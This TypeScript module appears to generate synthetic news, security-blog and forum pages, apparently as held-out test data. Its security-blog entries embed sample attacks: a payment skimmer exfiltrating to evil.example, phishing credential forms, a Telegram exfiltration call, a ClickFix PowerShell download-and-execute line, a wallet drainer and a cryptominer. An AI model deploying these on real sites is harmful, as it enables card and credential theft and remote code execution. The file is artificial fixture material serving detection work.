/** News, magazines, blogs, forums and videos, of 2005 to 2026. */
import { chance, picture } from '../chance.ts';
import type { Builders, HeldOut } from '../report.ts';
import * as v from '../vendors.ts';

const VENDORS = {
  urchin: v.urchin,
  ivw: v.ivw,
  documentWrite: v.documentWrite,
  ga2008: v.ga2008,
  omniture: v.omniture,
  gaAsync: v.gaAsync,
  chartbeat: v.chartbeat,
  piwik: v.piwik,
  newRelic: v.newRelic,
  universal: v.universal,
  facebook: v.facebook,
  criteo: v.criteo,
  taboola: v.taboola,
  tealium: v.tealium,
  gtm: v.gtm,
  oneTrust: v.oneTrust,
  prebid: v.prebid,
  hotjar: v.hotjar,
  gtag: v.gtag,
  clarity: v.clarity,
  matomo: v.matomo,
};
type Vendor = keyof typeof VENDORS;
interface Paper {
  host: string;
  lang: string;
  name: string;
  nav: string[];
  stories: [string, string][];
}

const PAPERS: Paper[] = [
  {
    host: 'www.badische-zeitung.de',
    lang: 'de',
    name: 'Badische Zeitung',
    nav: ['Freiburg', 'Südwest', 'Kultur', 'Sport', 'Anmelden'],
    stories: [
      [
        'Gemeinderat streitet über neue Stadtbahnlinie',
        'Nach vier Stunden Debatte vertagte der Gemeinderat die Entscheidung über die Linie 6. Die Verwaltung rechnet mit Kosten von 82 Millionen Euro.',
      ],
      [
        'Winzer erwarten frühe Lese',
        'Der trockene Juni hat den Reben am Kaiserstuhl zugesetzt, sagt der Weinbauverband.',
      ],
    ],
  },
  {
    host: 'www.ouest-france.fr',
    lang: 'fr',
    name: 'Ouest-France',
    nav: ['À la une', 'Bretagne', 'Sport', 'Économie', 'Se connecter'],
    stories: [
      [
        'Le pont de Saint-Nazaire fermé deux nuits',
        'Des travaux d’entretien obligent le département à couper la circulation de 22 h à 5 h.',
      ],
      [
        'Vendée : la banque postale ferme trois bureaux',
        'Les habitants de la commune ont signé une pétition contre la fermeture de leur agence.',
      ],
    ],
  },
  {
    host: 'www.lavozdegalicia.es',
    lang: 'es',
    name: 'La Voz de Galicia',
    nav: ['Galicia', 'Deportes', 'Economía', 'Opinión', 'Inicia sesión'],
    stories: [
      [
        'El puerto de Vigo bate su récord de contenedores',
        'La terminal movió en octubre un 14 % más que hace un año, según la autoridad portuaria.',
      ],
      [
        'Alerta por mensajes falsos de Correos',
        'La Guardia Civil recuerda que nunca hay que dar la contraseña ni los datos de la tarjeta por SMS.',
      ],
    ],
  },
  {
    host: 'www.ilpiccolo.it',
    lang: 'it',
    name: 'Il Piccolo',
    nav: ['Trieste', 'Gorizia', 'Cronaca', 'Sport', 'Accedi'],
    stories: [
      [
        'Bora a 130 all’ora, chiuso il molo Audace',
        'I vigili del fuoco hanno ricevuto più di duecento chiamate nella notte.',
      ],
      [
        'Truffa del finto nipote, due arresti',
        'Gli anziani consegnavano contanti e gioielli a un presunto corriere.',
      ],
    ],
  },
  {
    host: 'www.jn.pt',
    lang: 'pt',
    name: 'Jornal de Notícias',
    nav: ['Nacional', 'Porto', 'Desporto', 'Justiça', 'Entrar'],
    stories: [
      [
        'Metro do Porto abre três estações',
        'A nova linha Rosa liga São Bento à Casa da Música em sete minutos.',
      ],
      [
        'Burlas com MB Way disparam',
        'A Polícia Judiciária aconselha a nunca partilhar o código de confirmação.',
      ],
    ],
  },
  {
    host: 'www.tubantia.nl',
    lang: 'nl',
    name: 'Tubantia',
    nav: ['Enschede', 'Almelo', 'Sport', 'Show', 'Inloggen'],
    stories: [
      [
        'Twentekanaal dagen gestremd na aanvaring',
        'Een binnenvaartschip ramde vannacht de brug bij Delden. Rijkswaterstaat onderzoekt de schade.',
      ],
      ['FC Twente wint met tien man', 'Na de rode kaart in de 30ste minuut hield de ploeg stand.'],
    ],
  },
  {
    host: 'gazetalubuska.pl',
    lang: 'pl',
    name: 'Gazeta Lubuska',
    nav: ['Zielona Góra', 'Gorzów', 'Sport', 'Praca', 'Zaloguj się'],
    stories: [
      ['Nowe tramwaje dotarły do Gorzowa', 'Pierwszy z ośmiu pojazdów wyjedzie na tory w styczniu.'],
      [
        'Policja ostrzega przed fałszywymi SMS-ami',
        'Oszuści podszywają się pod kuriera i żądają dopłaty 1,20 zł do paczki.',
      ],
    ],
  },
  {
    host: 'www.hurriyet.com.tr',
    lang: 'tr',
    name: 'Hürriyet',
    nav: ['Gündem', 'Dünya', 'Ekonomi', 'Spor', 'Üye Girişi'],
    stories: [
      [
        'İstanbul’da metro seferleri uzatıldı',
        'Belediye, hafta sonu seferlerinin saat 02.00’ye kadar süreceğini açıkladı.',
      ],
      ['Faiz kararı açıklandı', 'Merkez Bankası politika faizini değiştirmedi.'],
    ],
  },
  {
    host: 'www.kobe-np.co.jp',
    lang: 'ja',
    name: '神戸新聞NEXT',
    nav: ['総合', 'スポーツ', '経済', '地域', 'ログイン'],
    stories: [
      ['神戸港の新ターミナルが完成', '来年四月から大型クルーズ船の受け入れを始める。'],
      ['宅配業者を装うSMSに注意', '県警によると、偽サイトで暗証番号を入力させる手口が増えている。'],
    ],
  },
  {
    host: 'www.thepaper.cn',
    lang: 'zh',
    name: '澎湃新闻',
    nav: ['时事', '财经', '思想', '生活', '登录'],
    stories: [
      ['上海地铁新线本月开通', '新线全长二十二公里，设站十五座，连接两大枢纽。'],
      ['多地提醒警惕冒充客服诈骗', '警方表示，凡要求转账到“安全账户”的都是诈骗。'],
    ],
  },
  {
    host: 'www.fontanka.ru',
    lang: 'ru',
    name: 'Фонтанка.ру',
    nav: ['Новости', 'Город', 'Бизнес', 'Афиша', 'Войти'],
    stories: [
      ['На Неве завершён ремонт моста', 'Движение откроют в ночь на субботу, сообщили в комитете.'],
      [
        'Мошенники представились службой безопасности банка',
        'Пенсионерка перевела на «безопасный счёт» два миллиона рублей.',
      ],
    ],
  },
  {
    host: 'www.almasryalyoum.com',
    lang: 'ar',
    name: 'المصري اليوم',
    nav: ['أخبار', 'اقتصاد', 'رياضة', 'حوادث', 'تسجيل الدخول'],
    stories: [
      ['افتتاح المرحلة الجديدة من مترو الأنفاق', 'قال المتحدث إن الخط ينقل مليون راكب يوميا.'],
      ['البنك المركزي يحذر من رسائل مزيفة', 'لا تطلب البنوك كلمة السر أو رمز التحقق عبر الهاتف.'],
    ],
  },
  {
    host: 'www.oregonlive.com',
    lang: 'en',
    name: 'The Oregonian',
    nav: ['News', 'Sports', 'Food', 'Obituaries', 'Sign in'],
    stories: [
      [
        'Burnside Bridge closes for the weekend',
        'Crews will replace bearings that date from 1926; buses are rerouted over the Morrison.',
      ],
      [
        'Scam callers pose as PGE',
        'The utility says it never asks for payment by gift card and never cuts power within the hour.',
      ],
    ],
  },
  {
    host: 'www.nordlys.no',
    lang: 'no',
    name: 'Nordlys',
    nav: ['Tromsø', 'Sport', 'Kultur', 'Meninger', 'Logg inn'],
    stories: [
      ['Ferja innstilt hele helga', 'Sterk vind gjør at sambandet ligger nede til mandag morgen.'],
      ['BankID-svindel rammet eldre', 'Politiet ber folk om aldri å oppgi engangskoder på telefonen.'],
    ],
  },
];

const ERAS: [number, Vendor[]][] = [
  [2006, ['urchin', 'ivw', 'documentWrite']],
  [2009, ['ga2008', 'omniture', 'documentWrite']],
  [2012, ['gaAsync', 'chartbeat', 'piwik', 'newRelic']],
  [2016, ['universal', 'facebook', 'criteo', 'taboola', 'tealium']],
  [2020, ['gtm', 'oneTrust', 'prebid', 'hotjar', 'taboola']],
  [2025, ['gtag', 'oneTrust', 'prebid', 'clarity', 'matomo']],
];

function front(paper: Paper, year: number, vendors: Vendor[]): HeldOut {
  const r = chance(`${paper.host}${year}`);
  const { host, lang, nav, stories } = paper;
  const domain = host.replace(/^www\./, '');
  const snippets = vendors.map((one) => VENDORS[one](r, domain));
  const extra = lang === 'ru' ? v.yandex(r, domain) : lang === 'zh' ? v.baidu(r, domain) : '';
  if (year < 2010) {
    const rows = stories.map(
      ([head, text], n) =>
        `<TR><TD valign=top width=120><a href="/artikel.php?id=${r.below(99999)}"><img src="/bilder/${r.hex(6)}.jpg" width=110 height=80 border=0></a></TD><TD><font face="Verdana,Arial" size=2><b><a href="/a/${n}.html">${head}</a></b><br>${text} <a href="/a/${n}.html">&raquo;</a></font></TD></TR>`,
    );
    return {
      url: `http://${host}/${year}/index.${r.pick(['php', 'html', 'jsp', 'asp'])}`,
      html: `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">
<HTML><HEAD><META http-equiv="Content-Type" content="text/html; charset=utf-8"><TITLE>${paper.name}</TITLE>
<link rel=stylesheet href="/css/main.css"><script language="JavaScript"><!--
function MM_swapImgRestore() { var i,x,a=document.MM_sr; for(i=0;a&&i<a.length&&(x=a[i])&&x.oSrc;i++) x.src=x.oSrc; }
function MM_openBrWindow(theURL,winName,features) { window.open(theURL,winName,features); }
if (top != self) top.location.href = self.location.href;
//--></script></HEAD><BODY bgcolor="#ffffff" onLoad="MM_swapImgRestore()" topmargin=0>
<table width=980 cellpadding=0 cellspacing=0><tr>${nav.map((n) => `<td class=nav><a href="/${r.text(5)}/">${n}</a></td>`).join('')}<td><form name=suche action="/suche.php" method=get><input name=q size=14><input type=image src="/img/go.gif"></form></td></tr>
${rows.join('\n')}
</table><iframe src="http://ad.doubleclick.net/adi/${domain}/home;sz=300x250;ord=${r.below(1e8)}?" width=300 height=250 frameborder=0 scrolling=no marginwidth=0></iframe>
<map name=m1><area shape=rect coords="0,0,10,10" href="/rss.xml"></map>
${snippets.join('\n')}${extra}
</BODY></HTML>`,
    };
  }
  const article = stories[r.below(stories.length)] ?? ['', ''];
  return {
    url: `https://${host}/${r.text(6)}/${r.hex(4)}-${year}.html${year > 2015 ? '?utm_source=newsletter&utm_medium=email' : ''}`,
    html: `<!doctype html>\n<html lang="${lang}"${lang === 'ar' ? ' dir="rtl"' : ''} class="no-js">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>${article[0]} | ${paper.name}</title>
<meta property="og:title" content="${article[0]}"><meta property="og:url" content="https://${host}/"><link rel="canonical" href="https://${host}/">
<script>document.documentElement.className=document.documentElement.className.replace('no-js','js');</script>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"${article[0]}","datePublished":"${year}-0${1 + r.below(9)}-1${r.below(9)}T08:00:00+02:00","publisher":{"@type":"Organization","name":"${paper.name}"}}</script>
${snippets.join('\n')}${extra}
<script src="https://cdn.${domain}/static/${r.hex(8)}/main.${r.hex(8)}.js" defer></script>
</head>
<body class="article">
<header><a href="/" class="logo"><img src="${picture(host, 240)}" alt="${paper.name}"></a><nav><ul>${nav.map((n) => `<li><a href="https://${host}/${r.text(5)}">${n}</a></li>`).join('')}</ul></nav>
<form action="/search" role="search"><input type="search" name="q"></form></header>
<main><article><h1>${article[0]}</h1><p class="lead">${article[1]}</p><figure><img loading="lazy" data-src="https://img.${domain}/${r.hex(12)}.webp" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"></figure>
${stories.map(([head, text]) => `<section><h2><a href="/${r.hex(6)}">${head}</a></h2><p>${text}</p></section>`).join('\n')}
<div class="paywall" style="display:none"><form action="https://login.${domain}/oauth/authorize" method="post"><input type="email" name="email" autocomplete="username"><input type="password" name="password" autocomplete="current-password"><input type="hidden" name="_csrf" value="${r.hex(40)}"><button>${nav[4]}</button></form></div>
<div id="taboola-below-article"></div><iframe src="https://www.youtube-nocookie.com/embed/${r.text(11)}" width="560" height="315" allowfullscreen></iframe></article></main>
<footer><small>© ${year} ${paper.name}</small> ${v.hiddenMail(r)}</footer>
<script>if('serviceWorker' in navigator){window.addEventListener('load',function(){navigator.serviceWorker.register('/sw.js').catch(function(){})})}</script>
</body></html>`,
  };
}

const news = () =>
  PAPERS.flatMap((paper, n) =>
    [0, 2, 4]
      .map((step) => ERAS[(n + step + (step > 2 ? 1 : 0)) % ERAS.length] as (typeof ERAS)[number])
      .map(([year, vendors]) => front(paper, year, vendors)),
  );

const BLOGS: [string, string, string, string, string][] = [
  [
    'blog.sucuri.net',
    'en',
    'Credit card skimmer hides in a favicon',
    'The injected script waits for the checkout page and then reads every field:',
    `<script>
document.querySelector('#payment').addEventListener('submit',function(){
 var d={};document.querySelectorAll('input,select').forEach(function(e){d[e.name]=e.value});
 new Image().src='https://evil.example/g.php?d='+btoa(JSON.stringify(d));
});
</script>`,
  ],
  [
    'isc.sans.edu',
    'en',
    'Phish of the day: an HTML attachment',
    'The attachment decodes itself and posts to a PHP script on a hacked site:',
    `<script>document.write(unescape('%3C%66%6F%72%6D%20%61%63%74%69%6F%6E%3D'));</script>
<form action="https://hacked.example/wp-content/uploads/next.php" method="post">
<input type="password" name="passwd" placeholder="Enter password">`,
  ],
  [
    'www.heise.de',
    'de',
    'Phishing: So arbeiten die Baukästen',
    'Der Baukasten schickt die Eingaben an einen Telegram-Bot. Im Quelltext sieht das so aus:',
    `$.post("https://api.telegram.org/bot"+token+"/sendMessage",{chat_id:chat,text:"User: "+u+"\\nPass: "+p});`,
  ],
  [
    'www.zataz.com',
    'fr',
    'Un kit visant Ameli décortiqué',
    'Le fichier index.php inclut un filtre antibots avant d’afficher le faux formulaire :',
    `<?php include 'antibots.php'; ?>
<form method="post" action="carte.php"><input name="cc_number"><input name="cvv"></form>`,
  ],
  [
    'unaaldia.hispasec.com',
    'es',
    'Análisis de una campaña contra clientes de banca',
    'La página falsa pide el DNI, la clave y después el código SMS:',
    `<form action="post.php" method="POST"><input name="dni"><input type="password" name="clave"><input name="sms"></form>`,
  ],
  [
    'cert.pl',
    'pl',
    'Uwaga na fałszywe strony płatności',
    'Po kliknięciu ofiara widzi panel logowania banku. Fragment kodu:',
    `<input type="password" name="haslo" onkeyup="send(this.value)">
<script>function send(v){fetch('/gate.php',{method:'POST',body:v})}</script>`,
  ],
  [
    'habr.com',
    'ru',
    'Разбираем дрейнер кошельков',
    'Скрипт просит подпись и затем вызывает setApprovalForAll:',
    `const c=new ethers.Contract(nft,abi,signer);
await c.setApprovalForAll('0x000000000000000000000000000000000000dEaD',true);`,
  ],
  [
    'www.jpcert.or.jp',
    'ja',
    'ClickFixと呼ばれる手口について',
    '偽のCAPTCHA画面で「Win+R」を押すよう指示し、クリップボードのコマンドを実行させます。',
    `navigator.clipboard.writeText('powershell -w hidden -c "iwr https://evil.example/a|iex"');
// Press Win+R, then Ctrl+V, then Enter`,
  ],
  [
    'www.freebuf.com',
    'zh',
    '一个挖矿脚本的分析',
    '页面嵌入了 CoinHive，利用访客的CPU挖矿：',
    `<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>var miner=new CoinHive.Anonymous('SITE_KEY',{throttle:0.3});miner.start();</script>`,
  ],
  [
    'www.cisoadvisor.com.br',
    'pt',
    'Golpe do falso boleto: como funciona',
    'O kit guarda agência, conta e senha em um arquivo texto:',
    `fwrite($f, $_POST['agencia']."|".$_POST['conta']."|".$_POST['senha6']."\\n");`,
  ],
  [
    'www.security.nl',
    'nl',
    'Helpdeskfraudeurs gebruiken paginavullende waarschuwing',
    'De pagina zet de browser op volledig scherm en toont een telefoonnummer:',
    `document.documentElement.requestFullscreen();alert("Bel Microsoft: +31 00 000 00 00. Sluit uw computer niet af!");`,
  ],
  [
    'www.d3lab.net',
    'it',
    'Phishing ai danni di Poste Italiane',
    'La pagina chiede il codice OTP e lo inoltra in tempo reale:',
    `setInterval(function(){$.get("check.php?id="+id,function(r){if(r=="otp")location="otp.php"})},3000);`,
  ],
];
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const lessons = () =>
  BLOGS.map(([host, lang, title, intro, code], n): HeldOut => {
    const r = chance(host);
    const block =
      n % 3 === 0
        ? `<pre class="wp-block-code"><code>${escaped(code)}</code></pre>`
        : n % 3 === 1
          ? `<div class="highlight"><pre><code class="language-html" data-lang="html">${escaped(code)
              .split('\n')
              .map((line, i) => `<span class="line" id="L${i}">${line}</span>`)
              .join('\n')}</code></pre></div>`
          : `<textarea readonly rows="8" cols="90">${escaped(code)}</textarea>`;
    return {
      url: `https://${host}/20${15 + n}/0${1 + (n % 9)}/${r.text(9)}-${r.text(6)}/`,
      html: `<!DOCTYPE html><html lang="${lang}"><head><meta charset="UTF-8"><title>${title} – ${host}</title><link rel='dns-prefetch' href='//s.w.org' />${v.emoji(host)}<link rel='stylesheet' id='wp-block-library-css' href='https://${host}/wp-includes/css/dist/block-library/style.min.css?ver=6.3.1' media='all' /><script src='https://${host}/wp-includes/js/jquery/jquery.min.js?ver=3.7.0' id='jquery-core-js'></script>${n % 2 ? v.universal(r, host) : v.matomo(r, host)}</head><body class="post-template-default single"><a class="skip-link" href="#content">#</a><article id="content"><h1>${title}</h1><p>${intro}</p>${block}<p><em>IoC:</em> <code>hxxps://evil[.]example/login[.]php</code>, <code>${r.hex(64)}</code></p><h3>YARA</h3><pre>rule kit { strings: $a = "antibots.php" $b = "rezult" condition: all of them }</pre></article><div id="comments"><form action="https://${host}/wp-comments-post.php" method="post" id="commentform"><textarea name="comment" cols="45" rows="8"></textarea><input name="author" type="text" autocomplete="name"><input name="email" type="email"><input type="hidden" name="comment_post_ID" value="${r.below(9999)}"><textarea aria-hidden="true" style="display:none !important" name="ak_hp_textarea"></textarea><input type="submit" name="submit"></form></div><script>document.getElementById("ak_js_1")&&document.getElementById("ak_js_1").setAttribute("value",(new Date()).getTime());</script></body></html>`,
    };
  });

const FORUMS: [string, string, string, string][] = [
  ['forum.xda-developers.com', 'en', 'vBulletin', 'How do I flash TWRP on a bricked tablet?'],
  ['www.chefkoch.de', 'de', 'Forum', 'Hefeteig geht nicht auf – was mache ich falsch?'],
  ['forum.hardware.fr', 'fr', 'MesDiscussions', 'Quel SSD pour un vieux portable ?'],
  ['4pda.to', 'ru', 'IPB', 'Телефон перезагружается после обновления'],
  ['forum.donanimhaber.com', 'tr', 'DH', 'Modem arayüzüne giremiyorum'],
  ['gathering.tweakers.net', 'nl', 'React', 'Zonnepanelen: omvormer valt uit'],
  ['www.elotrolado.net', 'es', 'phpBB', 'Mando que no sincroniza'],
  ['forum.ubuntu-it.org', 'it', 'phpBB', 'GRUB non parte dopo l’aggiornamento'],
];
const forums = () =>
  FORUMS.map(([host, lang, engine, topic], n): HeldOut => {
    const r = chance(host);
    return {
      url: `http${n % 3 ? 's' : ''}://${host}/viewtopic.php?f=${r.below(90)}&t=${r.below(99999)}&sid=${r.hex(32)}`,
      html: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml" lang="${lang}"><head><meta http-equiv="content-type" content="text/html; charset=UTF-8" /><title>${topic} • ${engine}</title>
<script type="text/javascript">// <![CDATA[
var jump_page = '?';var per_page='20';var base_url='';var style_cookie='phpBBstyle';var style_cookie_settings='; path=/; domain=.${host}';
function popup(url,width,height,name){if(!name){name='_popup';}window.open(url.replace(/&amp;/g,'&'),name,'height='+height+',resizable=yes,scrollbars=yes,width='+width);return false;}
var SECURITYTOKEN="guest";function md5hash(A,B,E,C){if(navigator.userAgent.indexOf("Mozilla/")==0){if(B){B.value=hex_md5(A.value)}A.value="";}return true}
// ]]></script></head><body class="ltr"><div id="wrap"><form method="post" action="./ucp.php?mode=login" onsubmit="md5hash(vb_login_password, vb_login_md5password)"><input type="text" name="username" size="10" /><input type="password" name="vb_login_password" size="10" /><input type="hidden" name="vb_login_md5password" /><input type="hidden" name="redirect" value="./viewtopic.php" /><input type="submit" name="login" value="Login" /></form>
${Array.from({ length: 3 + (n % 4) }, (_, i) => `<div class="post bg${i % 2}" id="p${r.below(999999)}"><dl class="postprofile"><dt><a href="./memberlist.php?mode=viewprofile&amp;u=${r.below(9999)}">${r.text(7)}</a></dt></dl><div class="content">${topic} ${i ? '+1' : ''}<br />[code] 192.168.1.1 admin/admin [/code] <img src="./images/smilies/icon_e_wink.gif" alt=";)" /></div><div class="signature">_________<br /><a href="http://${r.text(8)}.example/">${r.text(5)}</a></div></div>`).join('\n')}
</div>${n % 2 ? v.gaAsync(r, host) : v.documentWrite(r, host)}<img src="./cron.php?cron_type=tidy_sessions" width="1" height="1" alt="cron" /></body></html>`,
    };
  });

export const media: Builders = { news, lessons, forums };
